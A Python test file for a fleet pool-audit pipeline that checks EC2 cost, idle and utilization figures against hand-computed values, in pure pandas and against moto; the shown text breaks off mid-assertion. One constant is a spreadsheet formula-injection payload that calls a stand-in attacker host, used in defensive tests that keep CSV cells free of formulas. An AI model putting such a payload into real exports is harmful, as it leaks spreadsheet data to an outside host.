"""Pool audit: every figure against values computed by hand.

The fleet below (the same in the pure test and in moto):

| pool    | config                                  | instances                                   |
|---------|-----------------------------------------|---------------------------------------------|
| small   | t3.small (list 0.0208), desired_idle 1  | 3 running (2 busy, 1 idle), 1 pending, 1 stopped, 1 terminated |
| spotty  | c5.xlarge spot (0.17 x 0.35 = 0.0595)   | 2 running, both idle                         |
| gpu     | own price 0.5, desired_idle 2           | none                                         |
| mystery | x9.huge: not in the list, no own price  | 1 running (left out of totals)               |
| neg     | hourly_price_usd -1                     | none (left out of totals)                    |
| --      | managed, no pool tag ("untagged")       | 1 running                                    |
| --      | pool tag "ghost" (no such pool)         | 1 running                                    |
| --      | unmanaged (no managed tag)              | 2 running: never counted                     |

Jobs: running on small-1 and small-2 (busy), running on the pending and the stopped instance (not
busy: only running instances are busy), completed on small-3 (idle).
"""

import csv
import datetime as dt
import io
import json
import logging
import xml.etree.ElementTree as ET

import dagster as dg
import pandas as pd
import pytest
from botocore.exceptions import ClientError

from pipelines.common import to_item
from pipelines.common.aws_batches import put_metrics
from pipelines.common.params import ParamsError
from pipelines.definitions import build_definitions
from pipelines.fleet.context import FleetContext
from pipelines.fleet.defs.pool_audit import pool_audit_asset, pool_cost_report
from pipelines.fleet.messages import HousekeepingRequest
from pipelines.fleet.pool_audit import audit as pool_audit_module
from pipelines.fleet.pool_audit.audit import TASK as pool_audit_task
from pipelines.fleet.pool_audit.audit import build_daily_report, run_pool_audit
from pipelines.fleet.pool_audit.checks import CHECK_DESIRED_IDLE, CHECK_IDLE_COST, CHECK_KNOWN_POOLS
from pipelines.fleet.pool_audit.compute import PriceList, audit_pools, daily_report, load_price_list, snapshot_weights
from pipelines.fleet.pool_audit.render import INLINE_MARKDOWN_LIMIT, cost_chart_svg, cost_chart_text
from resources import resources_for
from tests import fleet_support as fs

AMI = "ami-12c6146b"
pool_audit = pool_audit_asset()  # production's: no check notes
PRICES = PriceList(
    source="test list",
    as_of="2026-01-01",
    spot_factor=0.35,
    on_demand_usd_per_hour={"t3.small": 0.0208, "c5.xlarge": 0.17, "g4dn.xlarge": 0.526},
)
POOLS = [
    {"pool_name": "small", "instance_type": "t3.small", "desired_idle": 1, "spot": False},
    {"pool_name": "spotty", "instance_type": "c5.xlarge", "desired_idle": 0, "spot": True},
    {"pool_name": "gpu", "instance_type": "g4dn.xlarge", "desired_idle": 2, "spot": False, "hourly_price_usd": 0.5},
    {"pool_name": "mystery", "instance_type": "x9.huge", "desired_idle": 0, "spot": False},
    {"pool_name": "neg", "instance_type": "t3.small", "desired_idle": 0, "spot": False, "hourly_price_usd": -1},
]

# Hand-computed rows: running, pending, stopped, busy, idle, idle_excess, price, compute, idle cost, util, in totals
EXPECTED = {
    "small": (3, 1, 1, 2, 1, 0, 0.0208, 3 * 0.0208, 1 * 0.0208, 100 * 2 / 3, True),
    "spotty": (2, 0, 0, 0, 2, 2, 0.0595, 2 * 0.0595, 2 * 0.0595, 0.0, True),
    "gpu": (0, 0, 0, 0, 0, 0, 0.5, 0.0, 0.0, 0.0, True),
    "mystery": (1, 0, 0, 0, 1, 1, None, None, None, 0.0, False),
    "neg": (0, 0, 0, 0, 0, 0, None, None, None, 0.0, False),
    "untagged": (1, 0, 0, 0, 1, 1, None, None, None, 0.0, False),
    "ghost": (1, 0, 0, 0, 1, 1, None, None, None, 0.0, False),
}
EXPECTED_TOTALS = {
    "pools": 5,
    "pools_in_totals": 3,
    "running": 5,
    "pending": 1,
    "stopped": 1,
    "busy": 2,
    "idle": 3,
    "idle_excess": 2,
    "compute_cost_usd_per_hour": 3 * 0.0208 + 2 * 0.0595,  # 0.1814
    "idle_cost_usd_per_hour": 0.0208 + 2 * 0.0595,  # 0.1398
    "utilization_pct": 40.0,  # 2 busy of 5 running
    "pools_with_problems": 4,  # mystery, neg, untagged, ghost: the rows of the problems table
    "untagged_instances": 1,
    "unknown_pool_instances": 1,
    "running_left_out_of_totals": 3,  # mystery, untagged, ghost
}


def _check_table(table: pd.DataFrame) -> None:
    rows = {r.pool: r for r in table.itertuples(index=False)}
    assert set(rows) == set(EXPECTED)
    for pool, (run, pend, stop, busy, idle, excess, price, compute, idle_cost, util, in_totals) in EXPECTED.items():
        r = rows[pool]
        assert (r.running, r.pending, r.stopped, r.busy, r.idle, r.idle_excess) == (run, pend, stop, busy, idle, excess)
        assert r.utilization_pct == pytest.approx(util), pool
        assert bool(r.in_totals) is in_totals, pool
        if in_totals:
            assert r.hourly_price_usd == pytest.approx(price), pool
            assert r.compute_cost_usd_per_hour == pytest.approx(compute), pool
            assert r.idle_cost_usd_per_hour == pytest.approx(idle_cost), pool
            assert r.problem == ""
        else:
            assert pd.isna(r.compute_cost_usd_per_hour), pool
            assert pd.isna(r.idle_cost_usd_per_hour), pool
            assert r.problem, pool
    assert rows["untagged"].kind == "untagged"
    assert rows["ghost"].kind == "unknown_pool"
    assert "x9.huge is not in the price list" in rows["mystery"].problem
    assert "negative hourly_price_usd" in rows["neg"].problem


def _check_totals(totals: dict) -> None:
    assert set(totals) == set(EXPECTED_TOTALS)
    for key, value in EXPECTED_TOTALS.items():
        assert totals[key] == pytest.approx(value), key


# ---------------------------------------------------------------- pure pandas


def _instance_rows() -> list[dict]:
    def row(iid, state, pool, itype="t3.small"):
        return {"instance_id": iid, "state": state, "pool": pool, "instance_type": itype}

    return [
        row("i-small1", "running", "small"),
        row("i-small2", "running", "small"),
        row("i-small3", "running", "small"),
        row("i-small4", "pending", "small"),
        row("i-small5", "stopped", "small"),
        row("i-small6", "terminated", "small"),
        row("i-spot1", "running", "spotty", "c5.xlarge"),
        row("i-spot2", "running", "spotty", "c5.xlarge"),
        row("i-myst1", "running", "mystery", "x9.huge"),
        row("i-untag1", "running", None, "t3.micro"),
        row("i-ghost1", "running", "ghost", "t3.micro"),
    ]


def test_audit_figures_match_hand_computed_values():
    busy = {"i-small1", "i-small2", "i-small4", "i-small5"}  # jobs on the pending/stopped ones do not count
    result = audit_pools(POOLS, _instance_rows(), busy, PRICES)
    _check_table(result.table)
    _check_totals(result.totals)
    assert result.unknown_pool_instances["instance_id"].tolist() == ["i-ghost1"]
    assert set(result.problems["pool"]) == {"mystery", "neg", "untagged", "ghost"}


def test_bad_pool_items_are_reported_never_priced_at_zero():
    pools = [
        {"pool_name": "no-type", "desired_idle": 0, "hourly_price_usd": 0.3},
        {"pool_name": "text-price", "instance_type": "t3.small", "hourly_price_usd": "cheap"},
        {"pool_name": "bad-idle", "instance_type": "t3.small", "desired_idle": -2},
        {"pool_name": "spot-str", "instance_type": "t3.small", "spot": "yes"},
        {"pool_name": "free", "instance_type": "t3.small", "hourly_price_usd": 0},  # an explicit 0 is a price
    ]
    rows = [{"instance_id": f"i-{p['pool_name']}", "state": "running", "pool": p["pool_name"]} for p in pools]
    result = audit_pools(pools, rows, set(), PRICES)
    problems = dict(zip(result.table["pool"], result.table["problem"], strict=True))
    assert problems["no-type"] == "missing instance_type"
    assert "invalid hourly_price_usd" in problems["text-price"]
    assert "invalid desired_idle" in problems["bad-idle"]
    assert "invalid spot" in problems["spot-str"]
    assert problems["free"] == ""
    assert result.totals["pools_in_totals"] == 1
    assert result.totals["running"] == 1
    assert result.totals["running_left_out_of_totals"] == 4
    assert result.totals["compute_cost_usd_per_hour"] == 0.0


FORMULA = '=HYPERLINK("https://attacker.example/?"&A1,"open")'
"""A pool name as another system could write it to the pools table or the ``runs-fleet:pool`` tag."""


def _formula_cells(csv_text: str) -> list[str]:
    """The cells a spreadsheet would take for a formula (a leading =, +, - or @; a number is not one)."""
    cells = [cell for row in csv.reader(io.StringIO(csv_text)) for cell in row]
    return [c for c in cells if c[:1] in ("=", "+", "-", "@") and not c.lstrip("+-").replace(".", "").isdigit()]


def test_a_pool_name_that_is_not_plain_is_its_rows_problem_and_never_starts_a_csv_cell_with_a_formula():
    pools = [{"pool_name": FORMULA, "instance_type": "t3.small", "desired_idle": 1}, POOLS[0]]
    rows = [
        {"instance_id": "i-formula1", "state": "running", "pool": FORMULA, "instance_type": "t3.small"},
        {"instance_id": "i-formula2", "state": "running", "pool": "@SUM(1+1)", "instance_type": "t3.small"},
        {"instance_id": "i-small1", "state": "running", "pool": "small", "instance_type": "t3.small"},
    ]
    result = audit_pools(pools, rows, set(), PRICES)
    assert _formula_cells(result.table.to_csv(index=False)) == []
    problems = dict(zip(result.table["pool"], result.table["problem"], strict=True))
    assert problems[repr(FORMULA)].startswith("pool_name is not a plain name")
    assert problems["'@SUM(1+1)'"] == "pool tag names no pool in the pools table"
    assert result.totals["pools_in_totals"] == 1  # small
    assert result.totals["running_left_out_of_totals"] == 2  # both instances are counted, out of the totals
    assert result.unknown_pool_instances["pool"].tolist() == ["'@SUM(1+1)'"]
    datums, skipped = pool_audit_module.metric_datums(result.table, dt.datetime(2026, 11, 21, tzinfo=dt.UTC))
    assert {d["Dimensions"][0]["Value"] for d in datums} == {"small"}
    assert skipped == [repr(FORMULA)]


def test_a_pools_instance_type_that_is_not_plain_is_its_rows_problem_and_never_starts_a_csv_cell_with_a_formula():
    pools = [{"pool_name": "priced", "instance_type": FORMULA, "hourly_price_usd": 0.5}, POOLS[0]]
    result = audit_pools(pools, [], set(), PRICES)
    assert _formula_cells(result.table.to_csv(index=False)) == []
    problems = dict(zip(result.table["pool"], result.table["problem"], strict=True))
    assert problems["priced"].startswith("instance_type is not a plain name")


def test_the_daily_report_never_starts_a_csv_cell_with_a_formula_from_an_older_snapshot():
    day = dt.datetime(2026, 11, 21, tzinfo=dt.UTC)
    rows = [_snapshot("2026-11-21T00:00:00Z", compute=6.0, idle=3.0, pool=FORMULA)]
    report, totals = daily_report(pd.DataFrame(rows), day, dt.timedelta(minutes=30))
    assert _formula_cells(report.to_csv(index=False)) == []
    assert report["pool"].tolist() == [repr(FORMULA)]
    assert totals["cost_usd"] == pytest.approx(6.0 / 2)  # counted all the same


def test_no_instances_and_no_pools():
    empty = audit_pools([], [], set(), PRICES)
    assert empty.table.empty
    assert empty.totals["running"] == 0
    assert empty.totals["utilization_pct"] == 0.0
    idle_pool = audit_pools(POOLS[:1], [], set(), PRICES)
    assert idle_pool.table.loc[0, "running"] == 0
    assert idle_pool.table.loc[0, "utilization_pct"] == 0.0


def test_the_shipped_price_list_has_source_date_and_a_sane_spot_factor(tmp_path):
    prices = load_price_list()
    assert prices.source.startswith("AWS EC2 On-Demand pricing")
    assert dt.date.fromisoformat(prices.as_of).isoformat() == prices.as_of  # a date, YYYY-MM-DD
    assert 0 < prices.spot_factor <= 1
    assert prices.on_demand_usd_per_hour["t3.small"] == 0.0208
    bad = tmp_path / "prices.json"
    bad.write_text('{"source": "x", "as_of": "y", "spot_factor": 0.3, "on_demand_usd_per_hour": {"t3.small": 0}}')
    with pytest.raises(ValueError, match="t3.small"):
        load_price_list(bad)


def test_a_price_past_a_floats_range_is_named_as_a_bad_entry(tmp_path):
    bad = tmp_path / "prices.json"
    prices = {"source": "x", "as_of": "y", "spot_factor": 0.3, "on_demand_usd_per_hour": {"t3.big": 10**400}}
    bad.write_text(json.dumps(prices))
    with pytest.raises(ValueError, match="t3.big"):
        load_price_list(bad)


def test_housekeeping_params_are_validated():
    assert pool_audit_task.parse({})[0].idle_cost_threshold_usd_per_hour == 5.0
    assert (
        pool_audit_task.parse({"idle_cost_threshold_usd_per_hour": 2})[0]
        == (pool_audit_task.parse({"idle_cost_threshold_usd_per_hour": 2.0})[0])
    )
    for bad, reason in [
        ({"idle_cost_threshold_usd_per_hour": -1}, "must be at least 0"),
        ({"idle_cost_threshold_usd_per_hour": True}, "must be a number"),
    ]:
        with pytest.raises(ParamsError, match=reason):
            pool_audit_task.parse(bad)
    what_if = HousekeepingRequest(task_type="pool_audit", params={"now": "2026-11-22T10:00:00Z"})
    with pytest.raises(ParamsError, match="only allowed with dryRun"):  # refused before any read
        pool_audit_task.run(None, what_if, pool_audit_task.parse({})[0])
    dry = HousekeepingRequest(task_type="pool_audit", params={"now": "2026-11-22T10:00:00Z", "dryRun": True})
    no_pools = FleetContext(jobs_table="jobs", archive_bucket="archive", namespace="RunsFleet", log=None)
    with pytest.raises(RuntimeError, match="no pools table"):  # a what-if audit writes nothing: allowed
        pool_audit_task.run(no_pools, dry, pool_audit_task.parse({})[0])


# ---------------------------------------------------------------- daily report


def _snapshot(at: str, compute: float, idle: float, running: int = 2, idle_n: int = 1, pool="small") -> dict:
    return {
        "snapshot_at": at,
        "pool": pool,
        "kind": "pool",
        "running": running,
        "idle": idle_n,
        "compute_cost_usd_per_hour": compute,
        "idle_cost_usd_per_hour": idle,
        "in_totals": True,
    }


def test_snapshot_weights_hold_until_the_next_snapshot_capped_by_the_gap_and_the_day():
    day = dt.datetime(2026, 11, 21, tzinfo=dt.UTC)
    times = [
        pd.Timestamp(t) for t in ("2026-11-20T23:50Z", "2026-11-21T00:10Z", "2026-11-21T00:20Z", "2026-11-21T23:55Z")
    ]
    w = snapshot_weights(times, day, dt.timedelta(minutes=30))
    assert w.tolist() == pytest.approx([10 / 60, 10 / 60, 30 / 60, 5 / 60])  # 00:00-00:10, -00:20, -00:50, -24:00
    so_far = snapshot_weights(times, day, dt.timedelta(minutes=30), now=dt.datetime(2026, 11, 21, 0, 30, tzinfo=dt.UTC))
    assert so_far.tolist() == pytest.approx([10 / 60, 10 / 60, 10 / 60, 0.0])  # today so far: nothing after now


def test_daily_report_time_weights_usd_per_pool_by_hand():
    day = dt.datetime(2026, 11, 21, tzinfo=dt.UTC)
    rows = [
        _snapshot("2026-11-21T00:00:00Z", compute=6.0, idle=3.0),  # 00:00-00:10: 1/6 h
        _snapshot("2026-11-21T00:10:00Z", compute=12.0, idle=0.0, idle_n=0),  # 00:10-00:40 (gap cap): 1/2 h
        _snapshot("2026-11-21T12:00:00Z", compute=2.0, idle=2.0, running=1),  # 12:00-12:30: 1/2 h
        _snapshot("2026-11-21T12:00:00Z", compute=1.0, idle=0.5, pool="other"),
        {**_snapshot("2026-11-21T12:00:00Z", compute=99.0, idle=99.0, pool="broken"), "in_totals": False},
    ]
    report, totals = daily_report(pd.DataFrame(rows), day, dt.timedelta(minutes=30))
    small = report.set_index("pool").loc["small"]
    assert small["cost_usd"] == pytest.approx(6 / 6 + 12 / 2 + 2 / 2)  # 8.0
    assert small["idle_cost_usd"] == pytest.approx(3 / 6 + 0 + 2 / 2)  # 1.5
    assert small["busy_cost_usd"] == pytest.approx(6.5)
    assert small["idle_share_pct"] == pytest.approx(100 * 1.5 / 8)
    assert small["hours_covered"] == pytest.approx(1 / 6 + 1 / 2 + 1 / 2)
    assert small["avg_running"] == pytest.approx((2 / 6 + 2 / 2 + 1 / 2) / (7 / 6))
    other = report.set_index("pool").loc["other"]
    assert (other["cost_usd"], other["idle_cost_usd"]) == pytest.approx((0.5, 0.25))
    assert "broken" not in set(report["pool"])
    assert report["pool"].tolist() == ["small", "other"]  # most expensive first
    assert totals["cost_usd"] == pytest.approx(8.5)
    assert totals["idle_cost_usd"] == pytest.approx(1.75)
    assert totals["idle_share_pct"] == pytest.approx(100 * 1.75 / 8.5)
    assert totals["hours_covered"] == pytest.approx(7 / 6)
    assert totals["snapshots"] == 3


def test_cost_chart_is_valid_svg_with_the_idle_part_highlighted():
    report = pd.DataFrame(
        [
            {"pool": "a<b", "cost_usd": 8.0, "busy_cost_usd": 6.0, "idle_cost_usd": 2.0, "idle_share_pct": 25.0},
            {"pool": "small", "cost_usd": 4.0, "busy_cost_usd": 4.0, "idle_cost_usd": 0.0, "idle_share_pct": 0.0},
        ]
    )
    svg = cost_chart_svg(report, "Fleet cost")
    root = ET.fromstring(svg)
    texts = [t.text for t in root.iter("{http://www.w3.org/2000/svg}text")]
    assert "a<b" in texts
    assert "small" in texts
    assert "$8.00 (idle 25%)" in texts
    widths = [
        float(r.get("width")) for r in root.iter("{http://www.w3.org/2000/svg}rect") if r.get("fill") == "#e45756"
    ]
    assert widths[1:] == [pytest.approx(420 * 2 / 8), pytest.approx(0.0)]  # legend swatch, then the idle bars
    assert ET.fromstring(cost_chart_svg(report.iloc[0:0], "empty")) is not None


def test_cost_chart_text_stays_inline_and_counts_the_pools_it_leaves_out():
    report = pd.DataFrame(
        {
            "pool": [f"pool-{n:02d}" for n in range(60)],
            "cost_usd": [60.0 - n for n in range(60)],
            "busy_cost_usd": [30.0] * 60,
            "idle_cost_usd": [30.0 - n / 2 for n in range(60)],
            "idle_share_pct": [50.0] * 60,
        }
    )
    chart = cost_chart_text(report)
    assert len(chart) < INLINE_MARKDOWN_LIMIT
    first = chart.splitlines()[1]
    assert first.startswith("pool-00 ")
    assert first.count("█") == 12
    assert first.count("░") == 12
    assert "$60.00 idle 50.0%" in first
    assert "more pools in the CSV" in chart
    assert cost_chart_text(report.iloc[0:0]) == "no priced snapshots for this day"


# ---------------------------------------------------------------- against moto


def _seed_fleet(aws) -> dict[str, str]:
    """The fixture fleet in moto; returns name -> instance id."""
    ddb, ec2 = aws.client("dynamodb"), aws.client("ec2")
    for pool in POOLS:
        ddb.put_item(TableName=aws.env["RUNS_FLEET_POOLS_TABLE"], Item=to_item(pool))

    def launch(name, itype, tags):
        tag_list = [{"Key": k, "Value": v} for k, v in tags.items()]
        spec = [{"ResourceType": "instance", "Tags": tag_list}] if tag_list else []
        inst = ec2.run_instances(ImageId=AMI, MinCount=1, MaxCount=1, InstanceType=itype, TagSpecifications=spec)
        return name, inst["Instances"][0]["InstanceId"]

    managed = {"runs-fleet:managed": "true"}
    ids = dict(
        [
            *(launch(f"small{n}", "t3.small", {**managed, "runs-fleet:pool": "small"}) for n in range(1, 7)),
            *(launch(f"spot{n}", "c5.xlarge", {**managed, "runs-fleet:pool": "spotty"}) for n in (1, 2)),
            launch("myst1", "t3.large", {**managed, "runs-fleet:pool": "mystery"}),
            launch("untag1", "t3.micro", managed),
            launch("ghost1", "t3.micro", {**managed, "runs-fleet:pool": "ghost"}),
            launch("unmanaged1", "t3.small", {"runs-fleet:pool": "small"}),
            launch("unmanaged2", "t3.small", {"runs-fleet:managed": "false", "runs-fleet:pool": "small"}),
        ]
    )
    ec2.stop_instances(InstanceIds=[ids["small5"]])
    ec2.terminate_instances(InstanceIds=[ids["small6"]])
    jobs = [
        ("j1", ids["small1"], "running"),
        ("j2", ids["small2"], "running"),
        ("j3", ids["small3"], "completed"),
        ("j4", ids["small4"], "running"),
        ("j5", ids["small5"], "running"),
        ("j6", ids["unmanaged1"], "running"),
    ]
    for job_id, instance_id, status in jobs:
        item = {"job_id": job_id, "instance_id": instance_id, "status": status, "started_at": "2026-11-22T00:00:00Z"}
        if status != "running":
            item["completed_at"] = "2026-11-22T00:05:00Z"
        ddb.put_item(TableName=aws.env["RUNS_FLEET_JOBS_TABLE"], Item=to_item(item))
    return ids


def _pretend_pending(ec2, instance_id: str) -> None:
    """moto never shows an instance as pending; this makes DescribeInstances report one that way."""

    def flip(parsed, **_):
        for reservation in parsed.get("Reservations", []):
            for inst in reservation["Instances"]:
                if inst["InstanceId"] == instance_id:
                    inst["State"] = {"Code": 0, "Name": "pending"}

    ec2.meta.events.register("after-call.ec2.DescribeInstances", flip)


def _audit_ctx(aws) -> FleetContext:
    """Clients and names for ``run_pool_audit`` against the test's moto."""
    return FleetContext(
        **{name: aws.client(name) for name in ("dynamodb", "ec2", "cloudwatch", "s3")},
        jobs_table=aws.env["RUNS_FLEET_JOBS_TABLE"],
        pools_table=aws.env["RUNS_FLEET_POOLS_TABLE"],
        archive_bucket=aws.env["RUNS_FLEET_ARCHIVE_BUCKET"],
        namespace="RunsFleet",
        log=logging.getLogger("pool_audit"),
    )


class _Calls:
    def __init__(self, *clients):
        self.calls: list[str] = []
        for client in clients:
            client.meta.events.register("before-call", self._count)

    def _count(self, model, **_):
        self.calls.append(model.name)


def test_audit_against_moto_matches_hand_computed_values_and_writes_metrics_and_csv(aws):
    ids = _seed_fleet(aws)
    now = dt.datetime(2026, 11, 22, 1, 30, tzinfo=dt.UTC)
    ctx = _audit_ctx(aws)
    _pretend_pending(ctx.ec2, ids["small4"])
    counter = _Calls(ctx.dynamodb, ctx.ec2, ctx.cloudwatch, ctx.s3)
    run = run_pool_audit(ctx, prices=PRICES, now=now)
    _check_table(run.audit.table)
    _check_totals(run.audit.totals)
    assert run.audit.unknown_pool_instances["instance_id"].tolist() == [ids["ghost1"]]
    # One call each: pools scan, DescribeInstances page, running-jobs query, PutMetricData, PutObject.
    assert sorted(counter.calls) == ["DescribeInstances", "PutMetricData", "PutObject", "Query", "Scan"]
    assert run.metric_datums == 3 * 3 + 2  # compute+idle+util for 3 priced pools, util for mystery and neg

    body = aws.client("s3").get_object(Bucket=aws.env["RUNS_FLEET_ARCHIVE_BUCKET"], Key=run.snapshot_key)["Body"]
    assert run.snapshot_key == "pool-audit/snapshots/2026-11-22/20261122T013000000Z.csv"
    stored = pd.read_csv(io.BytesIO(body.read()), keep_default_na=False, na_values=[""])
    assert stored["snapshot_at"].unique().tolist() == ["2026-11-22 01:30:00+00:00"]
    _check_table(stored.drop(columns=["snapshot_at"]).fillna({"problem": ""}))

    cw = aws.client("cloudwatch")
    for metric, pool, expected in [
        ("PoolIdleCost", "spotty", 2 * 0.0595),
        ("PoolComputeCost", "small", 3 * 0.0208),
        ("PoolUtilization", "small", 100 * 2 / 3),
    ]:
        stats = cw.get_metric_statistics(
            Namespace="RunsFleet",
            MetricName=metric,
            Dimensions=[{"Name": "PoolName", "Value": pool}],
            StartTime=now - dt.timedelta(minutes=5),
            EndTime=now + dt.timedelta(minutes=5),
            Period=60,
            Statistics=["Maximum"],
        )["Datapoints"]
        assert [d["Maximum"] for d in stats] == [pytest.approx(expected)], (metric, pool)
    names = {m["MetricName"] for m in cw.list_metrics(Namespace="RunsFleet")["Metrics"]}
    assert names == {"PoolComputeCost", "PoolIdleCost", "PoolUtilization"}


def test_a_snapshot_put_that_fails_once_publishes_the_metrics_once(aws):
    _seed_fleet(aws)
    now = dt.datetime(2026, 11, 22, 1, 30, tzinfo=dt.UTC)
    ctx = _audit_ctx(aws)
    puts = []

    def first(params) -> bool:
        puts.append(params)
        return len(puts) == 1

    with fs.refused(ctx.s3, "PutObject", "SlowDown", "Please reduce your request rate.", first):
        for _ in range(2):  # as the step: tried again once if it fails
            try:
                run_pool_audit(ctx, prices=PRICES, now=now)
                break
            except ClientError:
                continue
    stats = aws.client("cloudwatch").get_metric_statistics(
        Namespace="RunsFleet",
        MetricName="PoolIdleCost",
        Dimensions=[{"Name": "PoolName", "Value": "small"}],
        StartTime=now - dt.timedelta(minutes=5),
        EndTime=now + dt.timedelta(minutes=5),
        Period=600,
        Statistics=["SampleCount"],
    )["Datapoints"]
    assert [d["SampleCount"] for d in stats] == [1]
    listed = ctx.s3.list_objects_v2(Bucket=ctx.archive_bucket, Prefix="pool-audit/snapshots/")
    assert len(listed["Contents"]) == 1


def test_instances_with_running_jobs_are_the_managed_instances_it_describes(aws):
    """A running job may still name a terminated instance (small6), or one runs-fleet does not manage."""
    ids = _seed_fleet(aws)
    late = {"job_id": "j7", "instance_id": ids["small6"], "status": "running", "started_at": "2026-11-22T00:00:00Z"}
    aws.client("dynamodb").put_item(TableName=aws.env["RUNS_FLEET_JOBS_TABLE"], Item=to_item(late))
    run = run_pool_audit(_audit_ctx(aws), prices=PRICES, dry_run=True)
    assert run.running_jobs == 4  # small1, small2, small4 and the stopped small5


def test_busy_instances_come_from_a_scan_when_the_table_has_no_status_index(aws):
    ids = _seed_fleet(aws)
    ddb = aws.client("dynamodb")
    ddb.create_table(
        TableName="legacy-jobs",
        BillingMode="PAY_PER_REQUEST",
        AttributeDefinitions=[{"AttributeName": "job_id", "AttributeType": "S"}],
        KeySchema=[{"AttributeName": "job_id", "KeyType": "HASH"}],
    )
    for page in ddb.get_paginator("scan").paginate(TableName=aws.env["RUNS_FLEET_JOBS_TABLE"]):
        for item in page["Items"]:
            ddb.put_item(TableName="legacy-jobs", Item=item)
    messages = []
    busy = pool_audit_module.running_job_instances(ddb, "legacy-jobs", progress=messages.append)
    assert busy == {ids["small1"], ids["small2"], ids["small4"], ids["small5"], ids["unmanaged1"]}
    assert busy == pool_audit_module.running_job_instances(ddb, aws.env["RUNS_FLEET_JOBS_TABLE"])
    assert messages
    assert "scanning" in messages[0]


def test_describe_instances_is_paginated(aws, monkeypatch):
    ec2 = aws.client("ec2")
    for _ in range(7):  # one reservation each, like the fleet's one-runner launches
        ec2.run_instances(
            ImageId=AMI,
            MinCount=1,
            MaxCount=1,
            TagSpecifications=[{"ResourceType": "instance", "Tags": [{"Key": "runs-fleet:managed", "Value": "true"}]}],
        )
    monkeypatch.setattr(pool_audit_module, "INSTANCES_PAGE_SIZE", 5)  # moto counts reservations per page
    counter = _Calls(ec2)
    assert len(pool_audit_module.list_fleet_instances(ec2)) == 7
    assert counter.calls == ["DescribeInstances", "DescribeInstances"]


def test_a_desired_idle_out_of_range_is_its_pools_problem_and_the_other_pools_are_audited(aws):
    ddb, table = aws.client("dynamodb"), aws.env["RUNS_FLEET_POOLS_TABLE"]
    ddb.put_item(TableName=table, Item=to_item(POOLS[0]))
    typo = {"pool_name": "typo", "instance_type": "t3.small", "spot": False}
    ddb.put_item(TableName=table, Item={**to_item(typo), "desired_idle": {"N": "1E+30"}})
    run = run_pool_audit(_audit_ctx(aws), prices=PRICES, dry_run=True)
    problems = dict(zip(run.audit.table["pool"], run.audit.table["problem"], strict=True))
    assert problems["typo"] == f"invalid desired_idle {10**30} (a whole number from 0 to 1000000)"
    assert problems["small"] == ""
    assert run.audit.totals["pools_in_totals"] == 1


def test_a_runs_fleet_pool_wants_desired_running_idle_and_its_spot_instances_are_priced_as_ec2_launched_them(aws):
    """runs-fleet's PoolConfig has desired_running (no desired_idle) and no spot: it launches each instance
    spot or on-demand, which EC2's InstanceLifecycle tells."""
    ddb, ec2 = aws.client("dynamodb"), aws.client("ec2")
    pool = {
        "pool_name": "warm",
        "instance_type": "t3.small",
        "desired_running": 2,
        "desired_stopped": 1,
        "idle_timeout_minutes": 10,
        "schedules": [{"name": "nights", "start_hour": 20, "end_hour": 6, "desired_running": 0}],
        "region": "us-east-1",
    }
    ddb.put_item(TableName=aws.env["RUNS_FLEET_POOLS_TABLE"], Item=to_item(pool))
    tags = [{"ResourceType": "instance", "Tags": [{"Key": "runs-fleet:managed", "Value": "true"}]}]
    tags[0]["Tags"].append({"Key": "runs-fleet:pool", "Value": "warm"})
    launch = {"ImageId": AMI, "InstanceType": "t3.small", "TagSpecifications": tags}
    ec2.run_instances(MinCount=2, MaxCount=2, InstanceMarketOptions={"MarketType": "spot"}, **launch)
    (busy,) = ec2.run_instances(MinCount=1, MaxCount=1, **launch)["Instances"]
    job = {"job_id": "j-warm", "instance_id": busy["InstanceId"], "status": "running"}
    ddb.put_item(TableName=aws.env["RUNS_FLEET_JOBS_TABLE"], Item=to_item(job))
    row = run_pool_audit(_audit_ctx(aws), prices=PRICES, dry_run=True).audit.table.set_index("pool").loc["warm"]
    assert row.problem == ""
    assert row.idle == 2  # the two spot instances
    assert row.idle_excess == 0  # desired_running 2
    assert row.spot == 2
    assert row.compute_cost_usd_per_hour == pytest.approx(0.0208 + 2 * 0.0208 * 0.35)
    assert row.idle_cost_usd_per_hour == pytest.approx(2 * 0.0208 * 0.35)


def test_a_runs_fleet_pool_in_a_schedule_window_wants_its_effective_desired_running_idle(aws):
    """runs-fleet's reconcile writes the target a schedule sets as effective_desired_running."""
    pool = {"pool_name": "warm", "instance_type": "t3.small", "desired_running": 2, "effective_desired_running": 0}
    aws.client("dynamodb").put_item(TableName=aws.env["RUNS_FLEET_POOLS_TABLE"], Item=to_item(pool))
    tags = [{"Key": "runs-fleet:managed", "Value": "true"}, {"Key": "runs-fleet:pool", "Value": "warm"}]
    aws.client("ec2").run_instances(
        ImageId=AMI,
        InstanceType="t3.small",
        MinCount=1,
        MaxCount=1,
        TagSpecifications=[{"ResourceType": "instance", "Tags": tags}],
    )
    row = run_pool_audit(_audit_ctx(aws), prices=PRICES, dry_run=True).audit.table.set_index("pool").loc["warm"]
    assert row.idle_excess == 1


def test_metrics_are_batched_1000_datums_per_call(aws):
    cw = aws.client("cloudwatch")
    counter = _Calls(cw)
    table = pd.DataFrame(
        {
            "pool": [f"p{n}" for n in range(400)],
            "kind": "pool",
            "in_totals": True,
            "compute_cost_usd_per_hour": 1.0,
            "idle_cost_usd_per_hour": 0.5,
            "utilization_pct": 50.0,
        }
    )
    datums, skipped = pool_audit_module.metric_datums(table, dt.datetime(2026, 11, 22, tzinfo=dt.UTC))
    assert len(datums) == 1200
    assert skipped == []
    assert put_metrics(cw, "RunsFleet", datums) == 2
    assert counter.calls == ["PutMetricData"] * 2


def _materialize(aws, assets, **kwargs):
    return dg.materialize(assets, resources=resources_for("local"), **kwargs)


@pytest.mark.slow
def test_pool_audit_asset_reports_metadata_and_warns(aws):
    _seed_fleet(aws)
    from infra.demo.definitions import CHECK_NOTES

    result = _materialize(aws, [pool_audit_asset(CHECK_NOTES)])  # make dev's: the demo's notes
    assert result.success
    meta = result.asset_materializations_for_node("pool_audit")[0].metadata
    # Without the pending hook moto shows small4 running, with its running job: busy.
    counters = meta["counters"].value
    assert (counters["running"], counters["busy"], counters["idle"]) == (6, 3, 3)
    assert counters["untagged_instances"] == 1
    assert counters["unknown_pool_instances"] == 1
    assert meta["pools_with_problems"].value == 4
    assert len(meta["problems"].value.records) == 4  # the rows pools_with_problems counts
    expected_compute = 4 * 0.0208 + 2 * 0.17 * load_price_list().spot_factor + 0  # shipped list prices
    assert meta["total_compute_cost_usd_per_hour"].value == round(expected_compute, 2)  # cents
    assert counters["pools"] == 5
    # key figures first; the counters are one entry, not a series each in the Plots tab
    assert list(meta)[:4] == [
